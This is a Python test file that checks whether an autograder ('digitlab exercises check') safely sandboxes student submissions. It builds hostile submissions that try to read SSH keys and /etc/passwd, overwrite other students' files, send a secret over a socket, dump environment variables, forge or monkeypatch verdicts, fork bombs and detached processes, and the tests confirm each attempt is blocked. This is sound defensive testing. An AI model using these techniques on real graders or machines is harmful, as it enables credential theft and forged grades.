"""A class checked with hostile submissions among honest ones (`exercises check --all`, sandboxed):
nothing outside a submission's sandbox is read, written or reached, no verdict is forged, digitlab's
own solution is not a pass, and the report is complete and the same in HTML and CSV."""

from __future__ import annotations

import csv
import html
import re
import shutil
import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest

import digitlab
from digitlab.cli import main
from digitlab.exercises.isolation import isolation

pytestmark = pytest.mark.slow  # checks a class of 21 submissions in sandboxes

ONLY = ["double_odds", "mnist_distance", "train_mnist"]
SECRET = "s3cr3t-" + "x" * 8  # in every file and variable no submission may read
RIGHT = "def double_odds(a): return [2*o for o in a if o % 2 == 1]\n"
WRONG_DISTANCE = "def mnist_distance(a, b): return (a - b).mean((-1, -2))\n"  # no .abs(): wrong


def during_check(attack: str) -> str:
    """A right double_odds that first runs `attack` (once): what it prints is in double_odds' output."""
    body = "".join(f"        {line}\n" for line in attack.splitlines())
    return f"done = []\ndef double_odds(a):\n    if not done:\n        done.append(1)\n{body}" + (
        "    return [2*o for o in a if o % 2 == 1]\n"
    )


def hostile(places: dict[str, Path], port: int) -> dict[str, str]:
    """student -> code; each tries one thing on the list of issue 24, most inside a right double_odds."""
    paths = [places["ssh"], "/etc/passwd", places["victim"], places["teacher"], places["cache"]]
    return {
        "reader": during_check(
            f"for p in {[str(p) for p in paths]!r}:\n"
            "    try:\n        print('READ', p, open(p).read()[:200])\n    except OSError as e:\n"
            "        print('DENIED', p, type(e).__name__)"
        ),
        "writer": during_check(
            f"for p in {[str(places['victim']), str(places['teacher']), str(places['source'])]!r}:\n"
            "    try:\n        open(p, 'w').write('def double_odds(a): return None')\n        print('WROTE', p)\n"
            "    except OSError as e:\n        print('DENIED', p, type(e).__name__)"
        ),
        "network": during_check(
            "import socket\ntry:\n"
            f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=2); s.sendall(b'{SECRET}')\n"
            "    print('SENT')\nexcept OSError as e:\n    print('NO NETWORK', type(e).__name__)"
        ),
        "environment": during_check(
            "import os\nprint('ENV', sorted(os.environ.items()))\n"
            "print('PROCESSES', [open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') if p.isdigit()])"
        ),
        "forger": WRONG_DISTANCE + "import json, os, sys\n"
        "fd = int(sys.argv[sys.argv.index('--results-fd') + 1])\n"
        "lines = [{'event': 'loaded'}] + [e for n in sys.argv if n in ('double_odds', 'mnist_distance') for e in (\n"
        "    {'event': 'start', 'exercise': n},\n"
        "    {'event': 'verdict', 'exercise': n, 'status': 'passed', 'feedback': 'forged', 'observation': [0.5]})]\n"
        "os.write(fd, ''.join(json.dumps(e) + '\\n' for e in lines).encode())\nos._exit(0)\n",
        "patcher": WRONG_DISTANCE + "import sys\nfrom digitlab.exercises.runner import Verdict\n"
        "child = sys.modules['__main__']\n"
        "child.run_exercise = lambda exercise, submission, ctx=None: Verdict(exercise.name, 'passed', 'patched')\n",
        "detached": RIGHT + f"import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        f"        time.sleep(4)\n        open({str(places['report'])!r}, 'w').write('student,rewritten\\n')\n"
        "    os._exit(0)\n",
        "forker": RIGHT + "import os, time\nfor _ in range(55):\n    if os.fork() == 0:\n        time.sleep(600)\n",
        "hog": "def double_odds(a):\n    block = bytearray(10 * 2**30)\n    return []\n",
        "deep_forger": RIGHT + "import os, sys\nfd = int(sys.argv[sys.argv.index('--results-fd') + 1])\n"
        "os.write(fd, b'[' * 100000 + b'\\n')\n",
        "main_import": "from digitlab.__main__ import *\n" + RIGHT,  # the checker reads the name, imports nothing
        "importer": "from digitlab.baseline import mnist_distance\n" + RIGHT,
        "wrapper": "import digitlab\ndef mnist_distance(a, b): return digitlab.mnist_distance(a, b)\n" + RIGHT,
        "through_exercises": "from digitlab.exercises.checks_baseline import book_distance as mnist_distance\n",
        "labels_from_cache": "import os, torch\n"
        "def train_mnist(dls):\n"
        f"    print('CACHE', sum(len(f) for _, _, f in os.walk({str(places['cache'])!r})))\n"
        "    return lambda x: torch.zeros(len(x), 10)\n",
        "no_predictions": "import torch\nfrom digitlab.exercises import full_mnist\n"
        "full_mnist.check_train_mnist.__code__ = (lambda obj, ctx: 'ok').__code__\n"
        "def train_mnist(dls):\n    return lambda x: torch.zeros(len(x), 10)\n",
    }


@pytest.fixture(scope="module")
def places(tmp_path_factory, npm_sharing_home):
    """A teacher's machine: a home with an SSH key, a folder of their own, digitlab's cache with the mnist
    data, and a class folder with honest students (alice, victim) beside the hostile ones."""
    root = tmp_path_factory.mktemp("machine")
    home = root / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(SECRET)
    (root / "teacher").mkdir()
    (root / "teacher" / "grades.txt").write_text(SECRET)
    cache = npm_sharing_home(root / "cache")
    folder = root / "class"
    folder.mkdir()
    (folder / "victim.py").write_text(RIGHT)
    (folder / "alice.py").write_text(RIGHT + "def mnist_distance(a, b): return (a - b).abs().mean((-1, -2))\n")
    source = Path(digitlab.__file__).parent / "_written_by_a_student.py"
    return {
        "home": home, "ssh": home / ".ssh" / "id_rsa", "teacher": root / "teacher" / "grades.txt", "cache": cache,
        "class": folder, "victim": folder / "victim.py", "source": source, "report": root / "report" / "report.csv",
    }  # fmt: skip


@pytest.fixture(scope="module")
def listener():
    """A TCP server on 127.0.0.1: what any submission sends it."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    received: list[bytes] = []
    done = threading.Event()

    def serve() -> None:
        while not done.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            received.append(conn.recv(100))
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    done.set()
    thread.join()
    server.close()


@pytest.fixture(scope="module")
def checked(places, listener):
    assert shutil.which("bwrap"), "bubblewrap is needed: `make test` and .ci/run install it"
    assert isolation().available, isolation().why
    for student, code in hostile(places, listener[0]).items():
        (places["class"] / f"{student}.py").write_text(code)
    (places["class"] / "linked.py").symlink_to(places["teacher"])  # a link out of the class folder
    (places["class"] / ("long" * 60 + ".py")).write_text(RIGHT)  # a 240-character name
    (places["class"] / "nested.ipynb").write_text('{"cells": ' + "[" * 100_000)  # JSON nested 100,000 deep
    victim_before = places["victim"].read_text()
    out = places["report"].parent
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("HOME", str(places["home"]))
        mp.setenv("DIGITLAB_HOME", str(places["cache"]))
        mp.setenv("DIGITLAB_OFFLINE", "1")
        mp.setenv("DIGITLAB_TEST_SECRET", SECRET)
        mp.setattr("sys.argv", ["digitlab"])
        code = main(["exercises", "check", "--all", str(places["class"]), "--out", str(out), "--only", *ONLY,
                     "--time-limit", "20", "--quiet"])  # fmt: skip
    report = out / "report.csv"
    csv_before = report.read_text()
    time.sleep(5)  # the detached process would write by now, if it lived
    return {
        "code": code, "csv": report.read_text(), "csv_before": csv_before, "html": (out / "report.html").read_text(),
        "victim_before": victim_before, "received": listener[1],
    }  # fmt: skip


def rows(checked: dict) -> dict[tuple[str, str], dict[str, str]]:
    return {(r["student"], r["exercise"]): r for r in csv.DictReader(checked["csv"].splitlines())}


def test_nothing_outside_the_sandbox_is_read(checked, places):
    assert SECRET not in checked["csv"] and SECRET not in checked["html"]
    output = rows(checked)[("reader", "double_odds")]["output"]
    assert output.count("DENIED") == 5 and "READ" not in output, output
    assert "CACHE 0" in rows(checked)[("labels_from_cache", "train_mnist")]["output"]


def test_nothing_outside_the_sandbox_is_written(checked, places):
    assert places["victim"].read_text() == checked["victim_before"]
    assert places["teacher"].read_text() == SECRET
    assert not places["source"].exists()
    assert rows(checked)[("victim", "double_odds")]["status"] == "passed"
    assert rows(checked)[("writer", "double_odds")]["output"].count("DENIED") == 3


def test_no_network_no_environment_no_other_processes(checked):
    assert checked["received"] == []
    assert "NO NETWORK" in rows(checked)[("network", "double_odds")]["output"]
    output = rows(checked)[("environment", "double_odds")]["output"]
    assert "DIGITLAB_TEST_SECRET" not in output and "pytest" not in output, output


def test_forged_and_patched_verdicts_do_not_pass(checked):
    for student in ("forger", "patcher"):
        verdict = rows(checked)[(student, "mnist_distance")]
        assert verdict["status"] == "failed", verdict
    assert "fresh inputs" in rows(checked)[("patcher", "mnist_distance")]["feedback"]
    deep = rows(checked)[("deep_forger", "double_odds")]
    assert deep["status"] == "failed" and "results pipe" in deep["feedback"], deep


def test_what_a_submission_starts_dies_with_it_and_limits_hold(checked):
    for student in ("forker", "detached"):
        assert rows(checked)[(student, "double_odds")]["status"] == "passed"
    left = []
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            left += [entry.name] if b"digitlab.exercises.child" in (entry / "cmdline").read_bytes() else []
        except OSError:
            continue
    assert left == [], "processes of the checked code outlived the check"
    hog = rows(checked)[("hog", "double_odds")]
    assert hog["status"] == "failed" and "ran out of memory" in hog["feedback"], hog


def test_digitlab_s_own_solution_is_not_a_pass(checked):
    for student in ("importer", "wrapper", "through_exercises"):
        verdict = rows(checked)[(student, "mnist_distance")]
        assert verdict["status"] == "failed" and "uses digitlab's solution" in verdict["feedback"], verdict
    assert rows(checked)[("alice", "mnist_distance")]["status"] == "passed"


def test_train_mnist_cannot_cheat_or_break_the_class(checked):
    for student in ("labels_from_cache", "no_predictions"):
        assert rows(checked)[(student, "train_mnist")]["status"] == "failed"
    assert "predictions" in rows(checked)[("no_predictions", "train_mnist")]["feedback"]


def test_odd_files_are_reported_not_read(checked):
    linked = rows(checked)[("linked", "double_odds")]
    assert linked["status"] == "failed" and "outside the class's folder" in linked["feedback"]
    assert rows(checked)[("long" * 60, "double_odds")]["status"] == "passed"
    assert "not a notebook" in rows(checked)[("nested", "double_odds")]["feedback"]


def test_the_report_is_whole_final_and_the_same_in_html_and_csv(checked, places):
    assert checked["code"] == 1  # some failed
    assert checked["csv"] == checked["csv_before"]  # the detached process died with its sandbox
    students = {p.stem for p in places["class"].iterdir()}
    table = rows(checked)
    assert {s for s, _ in table} == students and len(table) == len(students) * len(ONLY)
    for student in students:  # each student's pass count and each mark's feedback, in both files
        passed = sum(table[(student, n)]["status"] == "passed" for n in ONLY)
        assert f"{html.escape(student)}</th>" in checked["html"]
        row = re.search(rf'<th class="l">{re.escape(html.escape(student))}</th>(.*?)</tr>', checked["html"])
        assert row is not None and row.group(1).endswith(f"<td>{passed}/{len(ONLY)}</td>"), student
        for n in ONLY:
            feedback = table[(student, n)]["feedback"].removeprefix("'")
            assert f'title="{html.escape(feedback)}"' in row.group(1), (student, n)


def test_without_a_sandbox_a_class_is_refused_unless_unsafe(tmp_path, monkeypatch, capsys):
    (tmp_path / "class").mkdir()
    (tmp_path / "class" / "a.py").write_text(RIGHT)
    monkeypatch.setenv("PATH", str(tmp_path))  # no bwrap on the PATH
    isolation.cache_clear()
    try:
        argv = ["exercises", "check", "--all", str(tmp_path / "class"), "--out", str(tmp_path / "r"), "--only"]
        assert main([*argv, "double_odds"]) == 2
        assert "without a sandbox" in capsys.readouterr().err
        assert not (tmp_path / "r").exists()
        assert main([*argv, "double_odds", "--unsafe", "--quiet"]) == 0
    finally:
        isolation.cache_clear()


def test_python_and_digitlab_under_tmp_stay_visible(tmp_path, monkeypatch):
    """A checkout (and its .venv) under /tmp: the sandbox's own empty /tmp must not hide it."""
    assert shutil.which("bwrap"), "bubblewrap is needed: `make test` and .ci/run install it"
    from digitlab.exercises import isolation as iso

    venv = tmp_path / "venv"
    venv.mkdir()
    (venv / "marker").write_text("here")
    monkeypatch.setattr(iso, "_roots", lambda: [venv])
    command = iso.sandbox_command(["/bin/cat", str(venv / "marker")], tmp_path / "venv")
    done = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stdout) == (0, "here"), done.stderr
